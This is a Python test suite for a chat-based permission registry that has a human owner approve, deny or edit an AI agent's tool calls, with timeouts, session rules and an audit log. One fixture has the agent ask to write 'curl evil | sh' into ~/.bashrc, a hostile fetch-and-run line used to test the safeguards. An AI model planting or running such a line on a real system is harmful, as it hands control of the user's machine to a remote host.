"""The permission registry without HTTP: prompts, answers, timeouts, cancellation, rules, shutdown."""

from __future__ import annotations

import asyncio
import json
import logging
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from agentchat.errors import PermissionPromptError
from agentchat.permissions.audit import AuditLog
from agentchat.permissions.registry import AnswerStatus, PermissionRegistry
from agentchat.permissions.requests import Behavior, DecidedBy, Decision, PermissionRequest, PromptKind

OWNER = "owner@example.org"
WAIT = 5.0  # generous upper bound for one event; tests normally see it within milliseconds


class RecordingListener:
    """One queue per callback, so tests wait for events instead of sleeping."""

    def __init__(self) -> None:
        self.queues: dict[str, asyncio.Queue[tuple[PermissionRequest, Decision | None]]] = {
            kind: asyncio.Queue() for kind in ("opened", "resolved", "timed_out", "cancelled")
        }

    async def prompt_opened(self, request: PermissionRequest) -> None:
        self.queues["opened"].put_nowait((request, None))

    async def prompt_resolved(self, request: PermissionRequest, decision: Decision) -> None:
        self.queues["resolved"].put_nowait((request, decision))

    async def prompt_timed_out(self, request: PermissionRequest) -> None:
        self.queues["timed_out"].put_nowait((request, None))

    async def prompt_cancelled(self, request: PermissionRequest) -> None:
        self.queues["cancelled"].put_nowait((request, None))

    async def next(self, kind: str) -> tuple[PermissionRequest, Decision | None]:
        return await asyncio.wait_for(self.queues[kind].get(), WAIT)


@pytest.fixture
async def audit(tmp_path: Path) -> AsyncIterator[AuditLog]:
    log = AuditLog(tmp_path / "permissions.jsonl")
    yield log
    await log.close()


@pytest.fixture
async def registry(audit: AuditLog) -> AsyncIterator[PermissionRegistry]:
    reg = PermissionRegistry(timeout_seconds=30, audit=audit)
    yield reg
    await reg.close()


def audit_lines(audit: AuditLog) -> list[dict[str, Any]]:
    return [json.loads(line) for line in audit.path.read_text(encoding="utf-8").splitlines()]


async def open_prompt(
    registry: PermissionRegistry,
    listener: RecordingListener,
    tool: str = "Write",
    tool_input: dict[str, Any] | None = None,
    agent: str = "agent-1",
) -> tuple[asyncio.Task[Decision], PermissionRequest]:
    tool_input = tool_input if tool_input is not None else {"file_path": "src/auth.ts", "content": "x"}
    task = asyncio.create_task(registry.ask(agent, tool, tool_input, "toolu_1"))
    request, _ = await listener.next("opened")
    return task, request


def test_tokens(registry: PermissionRegistry) -> None:
    first = registry.register_agent("agent-1", OWNER, RecordingListener())
    second = registry.register_agent("agent-2", OWNER, RecordingListener())
    assert first != second and len(first) >= 43 and re.fullmatch(r"[A-Za-z0-9_-]+", first)
    assert registry.agent_for_token(first) == "agent-1"
    assert registry.agent_for_token(second) == "agent-2"
    assert registry.agent_for_token(first[:-1]) is None
    assert registry.agent_for_token("") is None
    assert registry.agent_for_token("é" * 43) is None
    rotated = registry.register_agent("agent-1", OWNER, RecordingListener())
    assert registry.agent_for_token(first) is None and registry.agent_for_token(rotated) == "agent-1"


async def test_allow(registry: PermissionRegistry, audit: AuditLog) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener)
    assert re.fullmatch(r"[0-9a-f]{4}", request.request_id)
    assert request.kind is PromptKind.TOOL and request.owner == OWNER and request.deadline > request.created_at
    assert registry.pending("agent-1") == [request]

    result = registry.answer("agent-1", " YES ", "Owner@Example.org/phone")
    assert result.status is AnswerStatus.RESOLVED and result.request == request
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.allowed and decision.updated_input == request.input and decision.decided_by == OWNER
    assert decision.to_wire() == {"behavior": "allow", "updatedInput": {"file_path": "src/auth.ts", "content": "x"}}
    _, resolved = await listener.next("resolved")
    assert resolved == decision
    assert registry.pending("agent-1") == []
    [line] = audit_lines(audit)
    assert line["decision"] == "allow" and line["decided_by"] == OWNER and line["tool"] == "Write"


async def test_deny_with_reason_and_not_owner(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, _ = await open_prompt(registry, listener, "Bash", {"command": "rm -rf build"})
    assert registry.answer("agent-1", "yes", "mallory@example.org").status is AnswerStatus.NOT_OWNER
    assert not task.done()
    assert registry.answer("agent-1", "hello there", OWNER).status is AnswerStatus.NOT_A_REPLY
    assert registry.answer("agent-1", "no, use make clean", OWNER).status is AnswerStatus.RESOLVED
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.to_wire() == {"behavior": "deny", "message": "use make clean"}
    plain_task, _ = await open_prompt(registry, listener, "Bash", {"command": "ls"})
    registry.answer("agent-1", "n", OWNER)
    plain = await asyncio.wait_for(plain_task, WAIT)
    assert not plain.allowed and plain.message == "The user denied permission to use Bash."


async def test_ambiguous_then_by_id(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    first_task, first = await open_prompt(registry, listener)
    second_task, second = await open_prompt(registry, listener, "Bash", {"command": "ls"})
    assert first.request_id != second.request_id
    result = registry.answer("agent-1", "yes", OWNER)
    assert result.status is AnswerStatus.AMBIGUOUS
    assert result.request_ids == (first.request_id, second.request_id)
    assert first.request_id in result.text and second.request_id in result.text
    assert registry.answer("agent-1", f"#{second.request_id} no", OWNER).status is AnswerStatus.RESOLVED
    assert not (await asyncio.wait_for(second_task, WAIT)).allowed
    assert registry.answer("agent-1", "yes", OWNER).status is AnswerStatus.RESOLVED  # only one left now
    assert (await asyncio.wait_for(first_task, WAIT)).allowed
    unknown = registry.answer("agent-1", "#ffff yes", OWNER)
    assert unknown.status is AnswerStatus.UNKNOWN_ID and "ffff" in unknown.text


async def test_timeout_then_late_answers(audit: AuditLog) -> None:
    registry = PermissionRegistry(timeout_seconds=0.2, audit=audit)
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener)
    decision = await asyncio.wait_for(task, WAIT)
    assert not decision.allowed and "timed out" in decision.message and decision.decided_by == DecidedBy.TIMEOUT
    await listener.next("timed_out")
    late = registry.answer("agent-1", "yes", OWNER)
    assert late.status is AnswerStatus.EXPIRED and "timed out" in late.text and late.request is not None
    # The ended prompt is remembered by id and summary, not with its input (a Write carries a whole file).
    assert late.request.request_id == request.request_id and late.request.input == {}
    by_id = registry.answer("agent-1", f"#{request.request_id} yes", OWNER)
    assert by_id.status is AnswerStatus.EXPIRED
    assert registry.answer("agent-1", "yes", "mallory@example.org").status is AnswerStatus.NOT_OWNER
    assert audit_lines(audit)[-1]["decided_by"] == "timeout"
    await registry.close()


async def test_bare_late_reply_window(audit: AuditLog) -> None:
    registry = PermissionRegistry(timeout_seconds=0.05, audit=audit, late_reply_seconds=0)
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener)
    await asyncio.wait_for(task, WAIT)
    # Outside the window a bare "yes" is chat again; the id still gets the polite refusal.
    assert registry.answer("agent-1", "yes", OWNER).status is AnswerStatus.NOT_A_REPLY
    assert registry.answer("agent-1", f"{request.request_id} yes", OWNER).status is AnswerStatus.EXPIRED
    await registry.close()


async def test_cancelled_by_the_cli(registry: PermissionRegistry, audit: AuditLog) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener)
    task.cancel()
    cancelled, _ = await listener.next("cancelled")
    assert cancelled == request and registry.pending("agent-1") == []
    with pytest.raises(asyncio.CancelledError):
        await task
    withdrawn = registry.answer("agent-1", f"#{request.request_id} yes", OWNER)
    assert withdrawn.status is AnswerStatus.EXPIRED and "withdrawn" in withdrawn.text
    assert audit_lines(audit)[-1]["decision"] == "withdrawn"


async def test_allow_always_for_a_file_tool_covers_the_repository_for_the_session(
    registry: PermissionRegistry, audit: AuditLog, tmp_path: Path
) -> None:
    repo = tmp_path / "api"
    (repo / "src").mkdir(parents=True)
    (repo / "escape").symlink_to(tmp_path)  # a way out of the repository
    session = ["session-1"]
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener, repository=repo, session=lambda: session[0])
    task, first = await open_prompt(registry, listener, tool_input={"file_path": str(repo / "a.txt"), "content": ""})
    waiting_task, _ = await open_prompt(registry, listener, tool_input={"file_path": "src/b.txt", "content": ""})
    assert registry.answer("agent-1", f"#{first.request_id} always", OWNER).status is AnswerStatus.RESOLVED
    allowed = await asyncio.wait_for(task, WAIT)
    assert allowed.allowed and allowed.rule.startswith("Write under ") and allowed.rule.endswith("api for this session")
    # The other Write already waiting, inside the repository, is covered by the new rule.
    other = await asyncio.wait_for(waiting_task, WAIT)
    assert other.allowed and other.decided_by == DecidedBy.ALWAYS_RULE
    decision = await asyncio.wait_for(registry.ask("agent-1", "Write", {"file_path": str(repo / "c.txt")}, "t"), WAIT)
    assert decision.allowed and decision.decided_by == DecidedBy.ALWAYS_RULE
    assert listener.queues["opened"].empty()  # no prompt for the rule-covered Write
    assert listener.queues["resolved"].qsize() == 2
    assert audit_lines(audit)[-1]["decided_by"] == "always-rule"
    # Outside the repository, and through a symlink out of it, the rule does not apply; nor to Edit.
    for outside in ({"file_path": str(tmp_path / ".bashrc")}, {"file_path": str(repo / "escape" / ".bashrc")}):
        task, request = await open_prompt(registry, listener, tool_input=outside)
        registry.answer("agent-1", f"{request.request_id} no", OWNER)
        assert not (await asyncio.wait_for(task, WAIT)).allowed
    task, request = await open_prompt(registry, listener, "Edit", {"file_path": str(repo / "a.txt")})
    registry.answer("agent-1", f"{request.request_id} no", OWNER)
    await asyncio.wait_for(task, WAIT)
    # A new session: the rule is gone.
    session[0] = "session-2"
    task, _ = await open_prompt(registry, listener)  # asks again
    assert [request.tool_name for request in registry.deny_all("agent-1", "stop", OWNER)] == ["Write"]
    assert not (await asyncio.wait_for(task, WAIT)).allowed


async def test_always_outside_the_repository_allows_once(registry: PermissionRegistry, tmp_path: Path) -> None:
    repo = tmp_path / "api"
    repo.mkdir()
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener, repository=repo, session=lambda: "s")
    target = {"file_path": str(tmp_path / ".bashrc"), "content": "curl evil | sh"}
    task, request = await open_prompt(registry, listener, tool_input=target)
    registry.answer("agent-1", "always", OWNER)
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.allowed and decision.rule.startswith("once only:") and ".bashrc" in decision.rule
    task, again = await open_prompt(registry, listener, tool_input=target)  # asked again
    registry.answer("agent-1", "no", OWNER)
    assert not (await asyncio.wait_for(task, WAIT)).allowed


async def test_reset_session_forgets_the_rules(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, _ = await open_prompt(registry, listener, "WebFetch", {"url": "https://example.org"})
    registry.answer("agent-1", "always", OWNER)
    assert (await asyncio.wait_for(task, WAIT)).rule == "WebFetch for this session"
    covered = await asyncio.wait_for(registry.ask("agent-1", "WebFetch", {"url": "https://example.com"}, "t"), WAIT)
    assert covered.decided_by == DecidedBy.ALWAYS_RULE
    registry.reset_session("agent-1")
    task, _ = await open_prompt(registry, listener, "WebFetch", {"url": "https://example.com"})
    registry.answer("agent-1", "no", OWNER)
    assert not (await asyncio.wait_for(task, WAIT)).allowed


async def test_allow_always_for_bash_is_per_command(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, _ = await open_prompt(registry, listener, "Bash", {"command": "npm test", "description": "run tests"})
    registry.answer("agent-1", "always", OWNER)
    await asyncio.wait_for(task, WAIT)
    same_input = {"command": "npm test", "description": "again"}
    same = await asyncio.wait_for(registry.ask("agent-1", "Bash", same_input, "t"), WAIT)
    assert same.allowed and same.decided_by == DecidedBy.ALWAYS_RULE
    other_task, other = await open_prompt(registry, listener, "Bash", {"command": "npm publish"})
    assert other.bash_command == "npm publish"
    registry.answer("agent-1", "no", OWNER)
    assert not (await asyncio.wait_for(other_task, WAIT)).allowed


async def test_always_is_refused_for_questions_and_plans(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, _ = await open_prompt(registry, listener, "ExitPlanMode", {"plan": "1. a", "planFilePath": "/p.md"})
    result = registry.answer("agent-1", "always", OWNER)
    assert result.status is AnswerStatus.INVALID and "approve" in result.text
    registry.answer("agent-1", "approve", OWNER)
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.to_wire() == {"behavior": "allow", "updatedInput": {"plan": "1. a", "planFilePath": "/p.md"}}


async def test_question_answer_fills_answers(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    question = {
        "question": "Which color?", "header": "Color", "multiSelect": False,
        "options": [{"label": "Red", "description": ""}, {"label": "Blue", "description": ""}],
    }
    task, request = await open_prompt(registry, listener, "AskUserQuestion", {"questions": [question]})
    assert request.kind is PromptKind.QUESTION and request.questions[0].options[1].label == "Blue"
    assert registry.answer("agent-1", "yes", OWNER).status is AnswerStatus.INVALID
    assert registry.answer("agent-1", "2", OWNER).status is AnswerStatus.RESOLVED
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.updated_input == {"questions": [question], "answers": {"Which color?": "Blue"}}


async def test_resolve_for_reactions(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener)
    mallory = registry.resolve("agent-1", request.request_id, Decision(Behavior.ALLOW, "mallory@example.org"))
    assert mallory.status is AnswerStatus.NOT_OWNER
    # A 👍: allow without updated_input allows the input as it is.
    result = registry.resolve("agent-1", request.request_id, Decision(Behavior.ALLOW, OWNER + "/laptop"))
    assert result.status is AnswerStatus.RESOLVED
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.updated_input == request.input and decision.decided_by == OWNER
    assert registry.resolve("agent-1", request.request_id, Decision.deny("no", OWNER)).status is AnswerStatus.EXPIRED
    question_task, question = await open_prompt(
        registry, listener, "AskUserQuestion",
        {"questions": [{"question": "Q?", "header": "h", "multiSelect": False,
                        "options": [{"label": "A", "description": ""}, {"label": "B", "description": ""}]}]},
    )
    thumbs_up = registry.resolve("agent-1", question.request_id, Decision(Behavior.ALLOW, OWNER))
    assert thumbs_up.status is AnswerStatus.INVALID
    registry.resolve("agent-1", question.request_id, Decision.deny("skip", OWNER))
    assert (await asyncio.wait_for(question_task, WAIT)).message == "skip"


async def test_unregister_denies_and_revokes(registry: PermissionRegistry) -> None:
    listener = RecordingListener()
    token = registry.register_agent("agent-1", OWNER, listener)
    task, _ = await open_prompt(registry, listener)
    registry.unregister_agent("agent-1", "The agent was killed.")
    decision = await asyncio.wait_for(task, WAIT)
    assert not decision.allowed and decision.decided_by == DecidedBy.KILLED
    assert decision.message == "The agent was killed." and decision.interrupt
    assert registry.agent_for_token(token) is None
    with pytest.raises(PermissionPromptError):
        await registry.ask("agent-1", "Write", {}, None)
    assert registry.answer("agent-1", "yes", OWNER).status is AnswerStatus.NOT_A_REPLY


async def test_close_denies_pending_and_later_prompts(audit: AuditLog) -> None:
    registry = PermissionRegistry(timeout_seconds=30, audit=audit)
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    tasks = [(await open_prompt(registry, listener, tool_input={"file_path": f"{i}"}))[0] for i in range(3)]
    await registry.close()
    # close() returns only after every pending prompt got its answer, audit line and chat update.
    assert all(task.done() for task in tasks)
    for task in tasks:
        decision = task.result()
        assert not decision.allowed and "shutting down" in decision.message and decision.decided_by == "shutdown"
    assert [line["decided_by"] for line in audit_lines(audit)] == ["shutdown"] * 3
    late = await registry.ask("agent-1", "Write", {"file_path": "x"}, None)
    assert not late.allowed and "shutting down" in late.message


async def test_listener_errors_do_not_break_the_prompt(
    registry: PermissionRegistry, caplog: pytest.LogCaptureFixture
) -> None:
    class BrokenListener(RecordingListener):
        async def prompt_opened(self, request: PermissionRequest) -> None:
            await super().prompt_opened(request)
            raise RuntimeError("xmpp is down")

        async def prompt_resolved(self, request: PermissionRequest, decision: Decision) -> None:
            raise RuntimeError("still down")

    listener = BrokenListener()
    registry.register_agent("agent-1", OWNER, listener)
    with caplog.at_level(logging.ERROR, logger="agentchat.permissions.registry"):
        task, request = await open_prompt(registry, listener)
        registry.answer("agent-1", "yes", OWNER)
        assert (await asyncio.wait_for(task, WAIT)).allowed
    failures = [record for record in caplog.records if "listener" in record.getMessage()]
    assert len(failures) == 2
    assert all("agent-1" in record.getMessage() and request.request_id in record.getMessage() for record in failures)


async def test_slow_listener_is_abandoned(audit: AuditLog) -> None:
    hang = asyncio.Event()

    class HangingListener(RecordingListener):
        async def prompt_opened(self, request: PermissionRequest) -> None:
            await super().prompt_opened(request)
            await hang.wait()

    registry = PermissionRegistry(timeout_seconds=30, audit=audit, listener_timeout=0.1)
    listener = HangingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, _ = await open_prompt(registry, listener)
    registry.answer("agent-1", "yes", OWNER)  # answered while prompt_opened still hangs
    assert (await asyncio.wait_for(task, WAIT)).allowed
    await registry.close()


async def test_request_ids_unique_and_pending_is_capped(audit: AuditLog) -> None:
    registry = PermissionRegistry(timeout_seconds=30, audit=audit, max_pending_per_agent=300)
    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    tasks = [asyncio.create_task(registry.ask("agent-1", "Write", {"file_path": str(i)}, None)) for i in range(301)]
    refused = await asyncio.wait_for(asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED), WAIT)
    [done] = refused[0]
    assert done.result().decided_by == DecidedBy.LIMIT and "Too many" in done.result().message
    ids = [request.request_id for request in registry.pending("agent-1")]
    assert len(ids) == 300 == len(set(ids)) and all(re.fullmatch(r"[0-9a-f]{4}", rid) for rid in ids)
    await registry.close()
    assert all(task.done() for task in tasks)


async def test_agents_are_isolated(registry: PermissionRegistry) -> None:
    one, two = RecordingListener(), RecordingListener()
    registry.register_agent("agent-1", OWNER, one)
    registry.register_agent("agent-2", "other@example.org", two)
    task_one, request_one = await open_prompt(registry, one, agent="agent-1")
    task_two, _ = await open_prompt(registry, two, agent="agent-2")
    # The other owner cannot answer agent-1, even naming its id; answers to agent-2 never reach agent-1.
    intruder = registry.answer("agent-1", f"#{request_one.request_id} yes", "other@example.org")
    assert intruder.status is AnswerStatus.NOT_OWNER
    registry.answer("agent-2", f"#{request_one.request_id} yes", "other@example.org")
    registry.answer("agent-2", "yes", "other@example.org")
    assert (await asyncio.wait_for(task_two, WAIT)).allowed
    assert not task_one.done() and registry.pending("agent-1") == [request_one]
    registry.answer("agent-1", "no", OWNER)
    assert not (await asyncio.wait_for(task_one, WAIT)).allowed


# decide(): a reply given as values (a form), applied as a typed one is


async def test_decide_runs_the_edited_command_and_audits_what_ran(registry: PermissionRegistry, audit: AuditLog) -> None:
    from agentchat.permissions.replies import Reply, ReplyAction, edited_command

    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener, "Bash", {"command": "rm -rf build", "description": "Clean"})
    stranger = registry.decide("agent-1", Reply(request.request_id, ReplyAction.ALLOW), "mallory@example.org")
    assert stranger.status is AnswerStatus.NOT_OWNER and not task.done()
    result = registry.decide("agent-1", edited_command(request, "rm -rf build/cache"), OWNER)
    assert result.status is AnswerStatus.RESOLVED
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.to_wire() == {"behavior": "allow", "updatedInput": {"command": "rm -rf build/cache", "description": "Clean"}}
    await listener.next("resolved")
    await audit.close()
    line = audit_lines(audit)[-1]
    assert line["input"] == "rm -rf build" and line["message"] == "edited, ran: rm -rf build/cache"
    late = registry.decide("agent-1", Reply(request.request_id, ReplyAction.ALLOW), OWNER)
    assert late.status is AnswerStatus.EXPIRED


async def test_decide_always_with_an_edit_allows_the_edited_command_for_the_session(registry: PermissionRegistry) -> None:
    from agentchat.permissions.replies import Reply, ReplyAction

    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    task, request = await open_prompt(registry, listener, "Bash", {"command": "npm test"})
    reply = Reply(request.request_id, ReplyAction.ALLOW_ALWAYS, updated_input={"command": "npm test -- --ci"})
    registry.decide("agent-1", reply, OWNER)
    decision = await asyncio.wait_for(task, WAIT)
    assert decision.always and decision.updated_input == {"command": "npm test -- --ci"}
    # The rule covers the command that ran, not the one asked about.
    ruled = await asyncio.wait_for(registry.ask("agent-1", "Bash", {"command": "npm test -- --ci"}, None), WAIT)
    assert ruled.decided_by == DecidedBy.ALWAYS_RULE
    second, _ = await open_prompt(registry, listener, "Bash", {"command": "npm test"})
    assert not second.done()
    registry.deny_all("agent-1", "done", DecidedBy.KILLED)
    await asyncio.wait_for(second, WAIT)


async def test_decide_refuses_a_reply_that_does_not_fit_the_prompt(registry: PermissionRegistry) -> None:
    from agentchat.permissions.replies import Reply, ReplyAction

    listener = RecordingListener()
    registry.register_agent("agent-1", OWNER, listener)
    question = {"questions": [{"question": "Which?", "header": "", "options": [{"label": "A"}, {"label": "B"}]}]}
    task, request = await open_prompt(registry, listener, "AskUserQuestion", question)
    assert registry.decide("agent-1", Reply(request.request_id, ReplyAction.ALLOW_ALWAYS), OWNER).status is AnswerStatus.INVALID
    assert registry.decide("agent-1", Reply("ffff", ReplyAction.ALLOW), OWNER).status is AnswerStatus.UNKNOWN_ID
    assert registry.decide("agent-1", Reply(request.request_id, ReplyAction.ANSWER, answers={"Which?": "B"}), OWNER).status \
        is AnswerStatus.RESOLVED
    assert (await asyncio.wait_for(task, WAIT)).updated_input == {**question, "answers": {"Which?": "B"}}
